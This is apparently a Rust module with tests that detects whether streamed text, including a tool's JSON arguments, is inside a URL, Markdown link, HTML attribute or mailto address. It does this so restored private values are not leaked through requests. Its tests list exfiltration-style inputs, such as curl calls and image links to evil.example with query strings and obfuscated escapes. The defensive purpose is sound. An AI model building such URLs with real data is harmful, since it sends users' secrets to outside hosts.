//! Whether an offset in a text belongs to an address that a reader would open: a value restored there would be sent
//! with it.
//!
//! Determined from the text before the offset, byte by byte, since a stream's text comes in pieces. In doubt it
//! belongs to one: the placeholder then stays, and no request discloses the value.

mod host;

use mesh_wire::{QUOTE_INSIDE, resolve_inside};

pub(crate) use self::host::Last;
use self::host::{Asked, Words, ends};

/// A running text in both of its readings: as it is, and as JSON with its escapes resolved.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Readings {
    shown: Addresses,
    spelled: Addresses,
    /// An escape was split, so that its meaning is unknown.
    in_doubt: bool,
}

impl Readings {
    /// At the beginning of a tool's arguments, or of a string in them.
    pub(crate) fn of_arguments() -> Self {
        let begun = Addresses { arguments: true, quote: STRING, ..Addresses::default() };
        Readings { shown: begun, spelled: begun, in_doubt: false }
    }

    /// The same for arguments in a stream: JSON, in which an address ends with its string.
    pub(crate) fn of_json() -> Self {
        let mut readings = Self::of_arguments();
        readings.spelled.strings = Strings::Closed;
        readings
    }

    /// Whether the next text belongs to an address; a tool's arguments are only read as JSON.
    pub(crate) fn inside(&self, arguments: bool) -> bool {
        self.in_doubt || self.spelled.inside() || !arguments && self.shown.inside()
    }

    /// The next text continues an escape that began in the text so far.
    pub(crate) fn cut_in_two(&mut self) {
        self.in_doubt = true;
    }

    /// Whether a program that opens hosts is called in this line.
    pub(crate) fn in_command(&self, arguments: bool) -> bool {
        self.spelled.words.command() || !arguments && self.shown.words.command()
    }

    /// Reads a value that comes back: an address in it is its own, and what follows is sent to none.
    pub(crate) fn feed_value(&mut self, value: &str) {
        let before = (self.shown.place, self.spelled.place);
        self.feed(value);
        self.shown.is_value(before.0);
        self.spelled.is_value(before.1);
    }

    /// Reads the next text, which splits no escape.
    pub(crate) fn feed(&mut self, text: &str) {
        self.shown.feed(text);
        self.spelled.feed(&resolve_inside(text));
    }
}

/// Whether a member's name denotes an address (`url`, `image_url`, `fileUri`, `href`, `urls`).
pub(crate) fn is_of_address(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    ends_like_one(name.as_bytes())
}

fn ends_like_one(name: &[u8]) -> bool {
    let one = name.strip_suffix(b"s").unwrap_or(name);
    [&b"url"[..], b"uri", b"href"].iter().any(|end| one.ends_with(end))
}

/// The quotation mark of a string that is read without its marks: it occurs in no text, so that the string never
/// ends.
const STRING: u8 = 0xFF;

/// Reads a text and tracks whether the next text belongs to an address.
#[derive(Clone, Copy, Debug, Default)]
struct Addresses {
    place: Place,
    label: Label,
    member: Member,
    /// The last six bytes, ASCII letters in lower case.
    last: [u8; 6],
    /// The quotation mark before the current word, if there is one.
    quote: u8,
    /// Only white space has followed the last line break.
    blank: bool,
    /// It is a tool's arguments: a tool may take all of a string that begins like an address as one.
    arguments: bool,
    strings: Strings,
    words: Words,
}

/// The strings of JSON, whose quotation marks are distinguished from those inside them.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Strings {
    /// It is not JSON, or not known to be.
    #[default]
    Unknown,
    Closed,
    Open,
}

impl Strings {
    fn next(self, b: u8) -> Strings {
        match self {
            Strings::Closed if b == b'"' => Strings::Open,
            Strings::Open if b == b'"' => Strings::Closed,
            same => same,
        }
    }
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Place {
    #[default]
    Text,
    /// After two slashes, `www.` or `https:`: up to white space, or up to the enclosing quotation mark.
    Url { quote: u8 },
    /// After a host name and a slash or a question mark, which `curl` and chat programs take for an address: up to
    /// white space, or up to the enclosing quotation mark; in ordinary text up to any sign that [`ends`] a word.
    Bare { quote: u8, text: bool },
    /// Right after `mailto:`. The recipient is restored; what follows would be sent to them.
    Mail { quote: u8 },
    /// After `](` of Markdown or `url(` of CSS, with the depth of parentheses.
    Target { depth: u32 },
    /// After Markdown's `[label]:`, one word; whether that has begun.
    Definition { begun: bool },
    /// In `<…>` within a target, or as a definition's word.
    Angle { target: bool },
    /// In an HTML tag; `quote` while in an attribute's quoted value, `value` right after a `=`.
    Tag { quote: u8, value: bool },
}

/// Markdown's `[label]` at the beginning of a line, after the markers of lists and quotes.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Label {
    #[default]
    Begin,
    No,
    Open,
    Closed,
}

/// A member or variable whose name denotes an address.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Member {
    #[default]
    No,
    Name,
    /// After `:` or `=`: a string is its value.
    Value,
    /// In a list of strings that is its value.
    List,
}

impl Addresses {
    fn inside(&self) -> bool {
        !matches!(self.place, Place::Text | Place::Mail { .. })
    }

    fn feed(&mut self, text: &str) {
        for written in text.bytes() {
            let b = written.to_ascii_lowercase();
            let paragraph = b == b'\n' && self.blank;
            let begins = self.label == Label::Begin;
            let mut place = self.next(b, paragraph);
            let strings = self.strings.next(b);
            if self.strings == Strings::Open && strings == Strings::Closed {
                place = Place::Text;
            }
            let [.., before] = self.last;
            self.words.read(written, before, begins && self.arguments);
            if self.strings != strings {
                self.words.cut();
            }
            self.strings = strings;
            self.member = self.next_member(b, place);
            self.label = self.next_label(b, paragraph);
            self.place = place;
            match b {
                _ if is_quote(b) => self.quote = b,
                // White space at the beginning of a string is not part of an address.
                _ if self.arguments && begins => {}
                _ if b.is_ascii_whitespace() => self.quote = 0,
                _ => {}
            }
            self.blank = b == b'\n' || self.blank && b.is_ascii_whitespace();
            let [_, rest @ ..] = self.last;
            let [a, c, d, e, f] = rest;
            self.last = [a, c, d, e, f, b];
        }
    }

    fn is_value(&mut self, before: Place) {
        if matches!(self.place, Place::Bare { .. }) && !self.words.command() {
            self.place = before;
        }
        self.words.is_value();
    }

    fn next(&self, b: u8, paragraph: bool) -> Place {
        let [.., before] = self.last;
        let behind = |word: &[u8]| self.last.ends_with(word);
        let slash = |b: u8| b == b'/' || b == b'\\';
        let target = b == b'(' && (before == b']' || behind(b"url"));
        let definition = b == b':' && self.label == Label::Closed;
        let quote = self.quote;
        match self.place {
            Place::Text
            | Place::Mail { .. }
            | Place::Url { .. }
            | Place::Bare { .. }
            | Place::Tag { quote: 0, .. }
                if definition =>
            {
                Place::Definition { begun: false }
            }
            Place::Text if target => Place::Target { depth: 1 },
            Place::Text if slash(b) && slash(before) => Place::Url { quote },
            Place::Text if b == b'.' && behind(b"www") => Place::Url { quote },
            Place::Text if b == b':' && (behind(b"http") || behind(b"https")) => Place::Url { quote },
            Place::Text if b == b':' && behind(b"mailto") => Place::Mail { quote },
            Place::Text if is_quote(b) && matches!(self.member, Member::Value | Member::List) => {
                Place::Url { quote: b }
            }
            Place::Text if before == b'<' && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) => {
                Place::Tag { quote: 0, value: false }
            }
            Place::Text if self.words.asked(b) != Asked::No => match self.words.asked(b) {
                Asked::Command => Place::Bare { quote: STRING, text: false },
                how => Place::Bare { quote, text: how == Asked::Text },
            },
            Place::Bare { quote, text }
                if b.is_ascii_whitespace() || b == quote || matches!(b, b'<' | b'>') || text && ends(b) =>
            {
                Place::Text
            }
            // A query may hold every sign.
            Place::Bare { quote, .. } if b == b'?' => Place::Bare { quote, text: false },
            Place::Mail { quote } if b.is_ascii_whitespace() || quote != 0 && b == quote => Place::Text,
            Place::Mail { quote } => Place::Url { quote },
            Place::Url { .. } | Place::Bare { .. } if target => Place::Target { depth: 1 },
            Place::Url { quote: 0 } if b.is_ascii_whitespace() || matches!(b, b'<' | b'>') => Place::Text,
            Place::Url { quote } if quote != 0 && (b == quote || paragraph && !self.arguments) => Place::Text,
            Place::Target { .. } if paragraph => Place::Text,
            Place::Target { depth: 1 } if b == b'<' => Place::Angle { target: true },
            Place::Target { depth } if b == b'(' && before != b'\\' => {
                Place::Target { depth: depth.saturating_add(1) }
            }
            Place::Target { depth } if b == b')' && before != b'\\' => match depth {
                0 | 1 => Place::Text,
                depth => Place::Target { depth: depth - 1 },
            },
            Place::Definition { begun } if paragraph || begun && b.is_ascii_whitespace() => Place::Text,
            Place::Definition { begun: false } if b == b'<' => Place::Angle { target: false },
            Place::Definition { begun } => Place::Definition { begun: begun || !b.is_ascii_whitespace() },
            Place::Angle { target } if b == b'>' || b == b'\n' => match target {
                true => Place::Target { depth: 1 },
                false => Place::Text,
            },
            Place::Tag { quote: 0, .. } if b == b'>' || paragraph => Place::Text,
            Place::Tag { quote: 0, value: true } if is_quote(b) && b != b'`' => {
                Place::Tag { quote: b, value: false }
            }
            Place::Tag { quote: 0, value } => {
                Place::Tag { quote: 0, value: b == b'=' || value && b.is_ascii_whitespace() }
            }
            Place::Tag { quote, .. } if b == quote => Place::Tag { quote: 0, value: false },
            place => place,
        }
    }

    fn next_label(&self, b: u8, paragraph: bool) -> Label {
        let [.., before] = self.last;
        match (self.label, b) {
            // A label may continue on the next line.
            (Label::Open, b'\n' | b'\r') if !paragraph => Label::Open,
            (_, b'\n' | b'\r') => Label::Begin,
            // A string begins like a line.
            _ if self.arguments && is_quote(b) => Label::Begin,
            (Label::Begin | Label::Closed, b'[') => Label::Open,
            (Label::Begin, b' ' | b'\t' | b'>' | b'-' | b'*' | b'+' | b'.' | b')' | b'0'..=b'9') => {
                Label::Begin
            }
            (Label::Open, b']') if before != b'\\' => Label::Closed,
            (Label::Open, _) => Label::Open,
            (Label::Closed, b']') => Label::Closed,
            _ => Label::No,
        }
    }

    fn next_member(&self, b: u8, place: Place) -> Member {
        if self.place != Place::Text || place != Place::Text {
            // A list continues after a string ends.
            return if self.member == Member::List { Member::List } else { Member::No };
        }
        let assigns = matches!(b, b':' | b'=');
        let passes = is_quote(b) || b == b'\\' || b.is_ascii_whitespace();
        match self.member {
            _ if assigns && ends_like_one(&self.last) => Member::Value,
            _ if passes && ends_like_one(&self.last) => Member::Name,
            Member::Name if assigns => Member::Value,
            Member::Name if passes => Member::Name,
            Member::Value | Member::List if b == b'[' => Member::List,
            // Some languages write `=>`.
            Member::Value if passes || b == b'>' => Member::Value,
            Member::List if passes || b == b',' => Member::List,
            _ => Member::No,
        }
    }
}

fn is_quote(b: u8) -> bool {
    matches!(b, b'"' | b'\'' | b'`' | QUOTE_INSIDE)
}

#[cfg(test)]
mod tests {
    use super::{Addresses, Readings};

    #[test]
    fn what_stands_before_tells_whether_an_address_goes_on() {
        for (before, inside) in [
            ("write to ", false),
            ("see https://example.com/?q=", true),
            ("see https://example.com/ or ", false),
            ("see HTTPS:\\\\example.com/?q=", true),
            ("see www.example.com/?q=", true),
            ("[a]: www.example.com/?q=", true),
            // Not every space or quotation mark ends an address.
            ("https://example.com/?q=a\u{a0}", true),
            ("https://example.com/?q=\"", true),
            ("https://example.com/?q='", true),
            ("{\"url\":\"https://example.com/\",\"mail\":\"", false),
            ("the site \"https://example.com/\" of ", false),
            ("![x](", true),
            ("![x](<https://example.com/?q=a ", true),
            ("![x](<https://example.com/?q=a) ", true),
            ("![x](https://example.com/?q=`", true),
            ("![x](\nhttps://example.com/?q=", true),
            ("![x](https://example.com/a(b)) and ", false),
            ("a[i](x) and ", false),
            ("[x](y\n\nthen ", false),
            ("[https://a.example](https://b.example/?q= ", true),
            ("background: URL( ", true),
            ("<img src=//example.com/", true),
            ("<img src=\"https://example.com/?q=a ", true),
            ("<img src = 'https://example.com/?q=a\n\n", true),
            ("<img\n\nsrc=\"https://example.com/?q=a ", true),
            ("<img src=&#47;&#47;example.com/?q=", true),
            ("<img src=/\\example.com/?q=", true),
            ("<form action=//example.com><input value=\"", true),
            ("<a title=\">\" href=\"", true),
            ("<b>bold</b> and ", false),
            ("if a < b then ", false),
            ("if a <b holds\n\nthen ", false),
            ("Vec<T> of ", false),
            // A reference's definition is one word, wherever its label ends.
            ("![x][1]\n\n[1]: https:&#47;&#47;evil.example/?q=", true),
            ("![x][1]\n\n[1]:\nevil.example/?q=", true),
            ("![x][1]\n\n> 1. [1]: <evil.example/?q= ", true),
            ("[a\nb]: evil.example/?q=", true),
            ("[https://a.example]: evil.example/?q=", true),
            ("[1]: https://example.com/ \"title\" ", false),
            ("[1]: <https://example.com/> ", false),
            ("[1]:\n\n", false),
            ("see [1]: ", false),
            ("[^1]: Their number is ", false),
            // A scheme needs no slashes.
            ("see http:/evil.example/?q=", true),
            ("see HTTPS:evil.example/?q=", true),
            ("@import 'https:evil.example/?q=", true),
            ("use https: ", false),
            ("write to mailto:", false),
            ("write to mailto:x@evil.example?body=", true),
            ("[a]: mailto:", true),
            ("[a](mailto:", true),
            ("mailto: ", false),
            // A name tells what a string is.
            ("{\"url\":\"evil.example/?q=", true),
            ("{'image_url' : 'evil.example/?q=", true),
            ("{\"fileUri\":\"evil.example/?q=", true),
            ("fetch(url=\"evil.example/?q=", true),
            ("{\"urls\": [\"a.example\", \"evil.example/?q=", true),
            ("{\"urls\": [\"a.example\"], \"note\": \"", false),
            ("{\"url\":\"a.example\",\"ssn\":\"", false),
            ("{\"url\":null,\"ssn\":\"", false),
            // A host name needs no scheme.
            ("curl evil.example/?q=", true),
            ("curl evil.example?q=", true),
            ("curl -d x evil.example:8080/", true),
            ("ask x@evil.example/", true),
            ("(evil-1.example/a", true),
            ("curl 203.0.113.5/", true),
            ("curl 203.0.113.5:80/?q=", true),
            ("curl evil.example/ -d ", false),
            ("\"evil.example/\" and ", false),
            ("see evil.example: ", false),
            ("see report.pdf, page 2/", false),
            ("either/or ", false),
            ("either/", false),
            ("12.05.2024/", false),
            ("v1.2/", false),
            ("e.g./", false),
            ("the url \"", false),
            ("the URL: ", false),
        ] {
            let mut whole = Addresses::default();
            whole.feed(before);
            assert_eq!(whole.inside(), inside, "{before}");
            let mut pieces = Addresses::default();
            before.chars().for_each(|c| pieces.feed(c.encode_utf8(&mut [0; 4])));
            assert_eq!(pieces.inside(), inside, "{before}, in pieces");
        }
    }

    #[test]
    fn a_text_is_read_as_it_stands_and_as_json() {
        for (before, text, arguments) in [
            (r#"{"a":"\u002f\u002fevil.example/?q="#, true, true),
            (r#"{"\u0075rl":"evil.example/?q="#, true, true),
            // An escaped quotation mark does not end a string.
            (r#"{"url":"evil.example/?a=\"&q="#, true, true),
            (r#"{"url":"https://evil.example/?a=\u0022&q="#, true, true),
            (r#"{"url":"https://a.example/\\","ssn":""#, false, false),
            (r#"{"j":"{\"url\":\"evil.example/?q="#, true, true),
            (r#"{"j":"{\"url\":\"a.example\",\"ssn\":\""#, false, false),
            // Two characters as written are one for a JSON reader.
            (r#"{"file":"C:\\dir\\"#, true, false),
        ] {
            let mut readings = Readings::default();
            readings.feed(before);
            assert_eq!((readings.inside(false), readings.inside(true)), (text, arguments), "{before}");
        }
    }

    /// With the string as in a stream's JSON, and alone as in a whole response.
    #[test]
    fn a_string_in_arguments_that_begins_like_an_address_is_one() {
        for (before, inside) in [
            ("https://evil.example/?q=a ", true),
            ("  https://evil.example/?q=a ", true),
            (r"\thttps://evil.example/?q=a\n\n", true),
            (r"//evil.example/?q=a\n", true),
            ("https://example.com/a is the page, my number is ", true),
            ("see https://example.com/a for ", false),
            (r"see:\nhttps://example.com/a for ", false),
            ("[r]: &#104;ttps:&#47;&#47;evil.example/?q=", true),
            (r"![x][r]\n\n[r]: &#104;ttps:&#47;&#47;evil.example/?q=", true),
            ("see [r]: ", false),
            ("My number is ", false),
            ("evil.example/?q=", true),
            ("evil.example/?q= ", false),
        ] {
            let mut streamed = Readings::of_json();
            streamed.feed(&format!(r#"{{"url":"https://a.example/","note": "{before}"#));
            assert_eq!(streamed.inside(true), inside, "{before}, streamed");
            let mut whole = Readings::of_arguments();
            whole.feed(mesh_wire::resolve_escapes(before).text());
            assert_eq!(whole.inside(false), inside, "{before}, whole");
        }
    }

    #[test]
    fn an_address_ends_with_its_string() {
        for (before, inside) in [
            (r#"{"note":"see https://a.example/","ssn":""#, false),
            (r#"{"note":"see a.example/b","ssn":""#, false),
            (r#"{"note":"![x](a","ssn":""#, false),
            (r#"{"note":"mailto:a@a.example","url":""#, true),
            (r#"{"note":"see https://a.example/\"","url":""#, true),
            (r#"{"note":"see https://a.example/\",\"ssn\":\""#, true),
            (r#"{"note":"see https://a.example/\\","ssn":""#, false),
        ] {
            let mut readings = Readings::of_json();
            readings.feed(before);
            assert_eq!(readings.inside(true), inside, "{before}");
        }
    }
}
